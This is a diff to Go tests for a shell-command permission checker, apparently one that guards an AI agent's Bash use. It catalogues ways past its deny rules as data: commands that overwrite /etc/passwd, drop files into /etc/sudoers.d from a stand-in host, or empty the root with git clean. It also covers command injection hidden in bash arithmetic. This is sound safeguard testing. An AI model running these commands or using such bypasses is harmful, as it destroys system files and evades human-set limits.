@@ -544,11 +544,17 @@ var bypassClasses = []bypassClass{
 		// make reads VAR=VALUE operands as variables: SHELL runs every
 		// recipe line, CC the implicit rules' compiler (both ran the
 		// stand-in rm); ./configure takes CC=… the same way.
-		name: "a build tool's variable operands name the program it runs", needs: "make",
-		files:       map[string]string{"Makefile": "all:\n\techo hi\n", "x.c": "int x;\n"},
-		refused:     []string{"make SHELL=rm .SHELLFLAGS=-f", "make CC=rm x.o", "make -s SHELL=rm .SHELLFLAGS=-f all"},
-		unconfirmed: []string{"./configure CC=rm", "make CXX=rm"},
-		allowed:     []string{"make CC=gcc", "make -j4 V=1", "make install PREFIX=/usr/local", "make SHELL=/bin/bash"},
+		name: "a build tool's variable operands and configuration values name the program it runs", needs: "make",
+		files:   map[string]string{"Makefile": "all:\n\techo hi\n", "x.c": "int x;\n"},
+		refused: []string{"make SHELL=rm .SHELLFLAGS=-f", "make CC=rm x.o", "make -s SHELL=rm .SHELLFLAGS=-f all"},
+		// cargo --config's runner and rustc-wrapper, as TOML strings,
+		// ran the stand-in rm by hand (cargo lives in ~/.cargo here,
+		// outside the confirmation's PATH).
+		unconfirmed: []string{"./configure CC=rm", "make CXX=rm", `cargo --config 'target.x86_64-unknown-linux-gnu.runner="rm"' run`,
+			`cargo --config 'target.x86_64-unknown-linux-gnu.runner=["rm","-f"]' run`, `cargo run --config 'build.rustc-wrapper="rm"'`,
+			`cargo --config=target.x.runner='"rm"' run`},
+		allowed: []string{"make CC=gcc", "make -j4 V=1", "make install PREFIX=/usr/local", "make SHELL=/bin/bash",
+			"cargo --config 'profile.dev.opt-level=3' build", "cargo build --release", `cargo --config 'build.target-dir="out"' build`},
 	},
 	{
 		// less -o/-O/--log-file copy a piped input into their file (on a
@@ -557,6 +563,50 @@ var bypassClasses = []bypassClass{
 		yolo: append([]string{"cat img | less -o /dev/sda", "echo x | less --log /etc/shadow"}, lessWrites...),
 		yoloAllowed: []string{"less +G f", "less -R f", "less -N +/pat f", "cat f | less -o out.log", "less -p pat f",
 			"less --pattern=x f", "less -P '?f%f' f"},
+	},
+	{
+		// curl -O saves a URL under its last path segment in
+		// --output-dir or the working directory (replacing what is
+		// there: TestSavedDownloadsConfirm), and its relative -o there;
+		// wget saves into -P DIR or the working directory (a new name
+		// beside an existing file, so a new file in /etc/sudoers.d).
+		// cpio -i extracts into -D DIR or the working directory, -p
+		// copies into its operand (GNU cpio's manual).
+		name: "downloads and extractions saved into a directory under a name the text does not spell there",
+		yolo: []string{"curl --output-dir /etc -O http://x/passwd", "curl --output-dir /etc -o passwd http://x/y",
+			"cd /etc && curl -O http://x/shadow", "curl --output-dir /dev -o sda http://x/img", "wget -P /etc/sudoers.d http://x/evil",
+			"cd /etc/sudoers.d && wget http://x/evil", "wget --directory-prefix=/etc http://x/passwd",
+			"cd / && cpio -idm < a.cpio", "cpio -idm -D / < a.cpio", "cpio -i --directory=/etc < a.cpio", "find . | cpio -pdm /etc",
+			"cd / && cpio -i etc/passwd < a.cpio"},
+		yoloAllowed: []string{"curl -O http://x/passwd", "curl --output-dir /etc http://x/passwd", "wget -P /tmp http://x/passwd",
+			"wget -P /etc -O /tmp/out http://x/passwd", "wget http://x/passwd", "cpio -idm < a.cpio", "cpio -idm -D out < a.cpio",
+			"find . | cpio -pdm /tmp/backup", "find . | cpio -o > a.cpio", "curl --output-dir dl -O http://x/a.tgz"},
+	},
+	{
+		// git clean -fd empties its work tree of untracked files, and
+		// checkout or reset --hard write the repository's files into it
+		// (TestGitWorkTreeConfirm runs both on a scratch tree): a work
+		// tree at /, a home or a system directory — by --work-tree,
+		// GIT_WORK_TREE, -C or cd — is rm -r's catastrophe, or (filled)
+		// an extraction over the account files.
+		name: "git commands that empty or fill a work tree at the root",
+		yolo: []string{"git -C / clean -fdx", "cd / && git clean -fdx", "git init / && git -C / clean -fdx",
+			"git --work-tree=/ --git-dir=/tmp/r.git clean -fdx", "git -C ~ clean -fdx", "cd ~ && git clean -fd", "git -C /usr clean -ffd",
+			"git --work-tree=/ --git-dir=/tmp/r.git checkout -f .", "git --work-tree=/ --git-dir=/tmp/r.git reset --hard",
+			"GIT_WORK_TREE=/ git --git-dir=/tmp/r.git reset --hard", "git -C /etc checkout -- ."},
+		yoloAllowed: []string{"git clean -fdx", "git reset --hard", "git -C / clean -n -d", "git -C / status", "git -C /etc log",
+			"git -C sub clean -fdx", "git -C /tmp/x clean -fdx", "git --work-tree=/ --git-dir=/tmp/r.git reset",
+			"git --git-dir=/home/u/.dotfiles --work-tree=/home/u checkout"},
+	},
+	{
+		// None is installed here: from their manuals. dos2unix and its
+		// kin and sd rewrite their files in place by default, ruby -i
+		// as perl -i does, and rename moves each file it is given.
+		name: "programs that rewrite or rename the files they are given",
+		yolo: []string{"dos2unix /etc/passwd", "unix2dos /etc/shadow", "sd foo bar /etc/passwd", "ruby -pi -e 'x' /etc/passwd",
+			"ruby -i.bak -pe 'x' /etc/shadow", "rename 's/passwd/x/' /etc/passwd", "rename passwd x /etc/passwd", "rename 's/usr/x/' /usr"},
+		yoloAllowed: []string{"dos2unix src/a.txt", "unix2dos README.md", "sd foo bar src/main.rs", "ruby -pe 'x' /etc/passwd",
+			"ruby -e 'puts 1'", `rename 's/\.txt$/.md/' a.txt b.txt`},
 	},
 	{
 		name: "a copier's or mover's target directory and brace-made operands",
@@ -689,6 +739,10 @@ func TestBypassClasses(t *testing.T) {
 				if d := Decide(Input{Text: text, Policy: p, Cwd: "/work", ExecGate: gate}); d.Action == Allow {
 					t.Errorf("%s: %q (exec gate %v) allowed: %s", c.name, text, gate, d.Reason)
 				}
+			}
+			// Deny rules hold in yolo too.
+			if d := Decide(Input{Text: text, Policy: p, Mode: ModeYolo, Cwd: "/work"}); d.Action == Allow {
+				t.Errorf("%s: %q allowed in yolo under deny rules: %s", c.name, text, d.Reason)
 			}
 		}
 		for _, text := range c.allowed {
@@ -971,6 +1025,108 @@ func TestRemovesSourcesConfirm(t *testing.T) {
 		cancel()
 		if _, err := os.Stat(filepath.Join(tree, "d", "passwd")); err == nil {
 			t.Errorf("%q: bash left the source in place (the form proves nothing here): %s", text, out)
+		}
+	}
+}
+
+// TestDataCodeUnderDenyRules: code bash runs out of a value (arithmetic
+// on a variable, ${!x}, [[ -v ]]) is hidden from the deny rules as from
+// the allow rules, so yolo mode asks about it while deny or ask rules
+// exist and no exec gate judges what it runs (x='a[$(rm f)]'; echo
+// $((x)) runs rm under bash: the class's confirm test); with the exec
+// gate, the rm is refused when it runs, and yolo lets the text go.
+// Arithmetic on values the text fixes stays allowed.
+func TestDataCodeUnderDenyRules(t *testing.T) {
+	p := testPolicy(t, []string{"Bash(*)"}, nil, []string{"Bash(rm *)"})
+	for _, text := range []string{"x='a[$(rm -f x)]'; echo $((x))", "[[ -v 'a[$(rm -f x)]' ]]",
+		"y='a[$(rm -f x)]'; x=y; : ${!x}", "x='a[$(rm f)]'; typeset -i y=$x", "echo $((n + 1))",
+		"x='a[1]'; echo $((x))", "x=5; [ -n \"$1\" ] && x=$1; echo $((x))", "for i in 1 y; do echo $((i)); done"} {
+		if d := Decide(Input{Text: text, Policy: p, Mode: ModeYolo, Cwd: "/work"}); d.Action != Ask {
+			t.Errorf("%q in yolo under deny rules without an exec gate: %v: %s", text, d.Action, d.Reason)
+		}
+		if d := Decide(Input{Text: text, Policy: p, Mode: ModeYolo, Cwd: "/work", ExecGate: true}); d.Action != Allow {
+			t.Errorf("%q in yolo under deny rules with the exec gate: %v: %s", text, d.Action, d.Reason)
+		}
+	}
+	for _, text := range []string{"x=5; echo $((x * 2))", "n=0x1f; echo $((n)) $((${n} + 1))", "echo $((3 + 4))", "for i in 1 2; do echo $((i * 2)); done",
+		"[[ $? -eq 0 ]] && echo ok", "[ \"$n\" -eq 1 ]"} {
+		if d := Decide(Input{Text: text, Policy: p, Mode: ModeYolo, Cwd: "/work"}); d.Action != Allow {
+			t.Errorf("near miss %q in yolo under deny rules: %v: %s", text, d.Action, d.Reason)
+		}
+	}
+}
+
+// TestSavedDownloadsConfirm runs curl -O under bash with a file:// URL
+// whose last segment is passwd: the file of that name in --output-dir, or
+// in the working directory, is replaced.
+func TestSavedDownloadsConfirm(t *testing.T) {
+	bash := requireBash(t)
+	if _, err := exec.LookPath("curl"); err != nil {
+		t.Skip("curl is not installed: the confirmation needs it")
+	}
+	for _, form := range []string{"curl -s --output-dir etc -O U", "cd etc && curl -s -O U", "curl -s --output-dir etc -o passwd file:///dev/null"} {
+		dir := t.TempDir()
+		for _, d := range []string{"src", "etc"} {
+			if err := os.Mkdir(filepath.Join(dir, d), 0o755); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := os.WriteFile(filepath.Join(dir, "src", "passwd"), []byte("new\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		target := filepath.Join(dir, "etc", "passwd")
+		if err := os.WriteFile(target, []byte("old account file\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		text := strings.ReplaceAll(form, " U", " file://"+filepath.Join(dir, "src", "passwd"))
+		cmd := exec.Command(bash, "-c", text)
+		cmd.Dir = dir
+		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + dir, "LC_ALL=C"}
+		_ = cmd.Run()
+		if b, _ := os.ReadFile(target); string(b) == "old account file\n" {
+			t.Errorf("%q: curl left the file in place (the form proves nothing here)", text)
+		}
+	}
+}
+
+// TestGitWorkTreeConfirm: git clean -fdx empties a work tree (given by -C
+// or --work-tree) of its untracked files, and reset --hard replaces a
+// work tree's file with the repository's, on a scratch tree under bash.
+func TestGitWorkTreeConfirm(t *testing.T) {
+	bash := requireBash(t)
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git is not installed: the confirmation needs it")
+	}
+	for _, tt := range []struct{ form, want string }{
+		{"git init -q R && git -C R clean -fdxq", ""},
+		{"git init -q --bare r.git && git --work-tree=R --git-dir=r.git clean -fdq", ""},
+		{"git init -q --bare s.git && mkdir w && echo repo > w/passwd && git --git-dir=s.git --work-tree=w add passwd && " +
+			"git -c user.name=x -c user.email=x@x --git-dir=s.git --work-tree=w commit -qm x && git --git-dir=s.git --work-tree=R reset -q --hard", "repo\n"},
+	} {
+		dir := t.TempDir()
+		file := filepath.Join(dir, "R", "etc", "passwd")
+		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(file, []byte("old\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if tt.want != "" {
+			file = filepath.Join(dir, "R", "passwd")
+			if err := os.WriteFile(file, []byte("old\n"), 0o644); err != nil {
+				t.Fatal(err)
+			}
+		}
+		cmd := exec.Command(bash, "-c", tt.form)
+		cmd.Dir = dir
+		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + dir, "LC_ALL=C"}
+		out, _ := cmd.CombinedOutput()
+		b, err := os.ReadFile(file)
+		switch {
+		case tt.want == "" && err == nil:
+			t.Errorf("%q left %s in place: %s", tt.form, file, out)
+		case tt.want != "" && string(b) != tt.want:
+			t.Errorf("%q: %s holds %q, want %q: %s", tt.form, file, b, tt.want, out)
 		}
 	}
 }
